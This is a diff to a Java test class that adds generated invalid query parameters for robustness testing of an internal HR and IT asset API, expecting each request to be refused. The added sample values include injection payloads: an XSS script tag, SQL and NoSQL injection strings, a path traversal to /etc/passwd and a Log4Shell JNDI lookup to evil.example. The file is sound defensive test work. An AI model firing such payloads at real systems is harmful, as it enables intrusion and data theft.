@@ -90,6 +90,7 @@ final class HostileInputs {
 		add("api: script/HTML in names, impossible dates", 4, this::apiMarkupAndDates);
 		add("api: bad path ids", 8, this::apiBadPath);
 		add("api: bad query params", 6, this::apiBadQuery);
+		add("api: query params out of range or of the wrong type", 4, this::apiInvalidQuery);
 		add("api: wrong content type", 4, this::apiContentType);
 	}
 
@@ -479,6 +480,37 @@ final class HostileInputs {
 		String path = pick(List.of("/api/employees", "/api/tickets", "/api/tasks", "/api/assets",
 				"/api/assets/outstanding", "/api/assets/handovers", "/api/profiles/match", "/api/audit"));
 		return kind -> new HostileInput(kind, "GET", path, null, query, null, null, Expect.ANSWERED_OR_REFUSED);
+	}
+
+	/** One query parameter that no search accepts: each must be refused, naming it. */
+	private Function<String, HostileInput> apiInvalidQuery() {
+		String tooLong = "q".repeat(1_000 + this.random.nextInt(3_000));
+		String notANumber = pick(List.of("abc", "1e9", "99999999999", "1.5", "NaN", "%3Cscript%3E"));
+		// (a blank value means "not given": the parameter's default applies)
+		String notAValue = encode(pick(List.of("BOGUS", "<script>alert(1)</script>", "' OR '1'='1", "{\"$gt\": \"\"}",
+				"${jndi:ldap://evil.example/a}", "../../etc/passwd", "😀")));
+		List<String> badDates = BAD_ISO_DATES.stream().filter(date -> !date.isEmpty()).toList();
+		record Query(String path, String query) {
+		}
+		Query query = pick(List.of(new Query("/api/tickets", "max=" + pick(List.of("-1", "0", "501", notANumber))),
+				new Query("/api/tickets", "state=" + pick(List.of("open", notAValue))),
+				new Query("/api/tickets", pick(List.of("employeeId=", "managerUpn=", "requestedBy=")) + tooLong),
+				new Query("/api/tasks", "department=" + encode(pick(List.of("NOPE", "I T", pick(HOSTILE))))),
+				new Query("/api/tasks", "department=" + tooLong),
+				new Query("/api/tasks", "status=" + pick(List.of("done", notAValue))),
+				new Query("/api/tasks", "overdue=" + pick(List.of("maybe", "2", notAValue))),
+				new Query("/api/employees", "name=Anna&max=" + pick(List.of("0", "51", "-1", notANumber))),
+				new Query("/api/employees", "leavingBefore=" + encode(pick(badDates))),
+				new Query("/api/employees", pick(List.of("upn=", "name=")) + tooLong), new Query("/api/employees", ""),
+				new Query("/api/assets", "limit=" + pick(List.of("0", "1001", "-5", notANumber))),
+				new Query("/api/assets", "status=" + pick(List.of("in_stock", notAValue))),
+				new Query("/api/assets", "type=" + tooLong),
+				new Query("/api/assets/outstanding", "today=" + encode(pick(badDates))),
+				new Query("/api/assets/handovers",
+						pick(List.of("", "employeeId=", "employeeId=%20", "employeeId=" + tooLong))),
+				new Query("/api/profiles/match", pick(List.of("", "role=", "role=%20", "role=" + tooLong)))));
+		return kind -> new HostileInput(kind, "GET", query.path(), null, query.query().isEmpty() ? null : query.query(),
+				null, null, Expect.REFUSED);
 	}
 
 	private Function<String, HostileInput> apiContentType() {
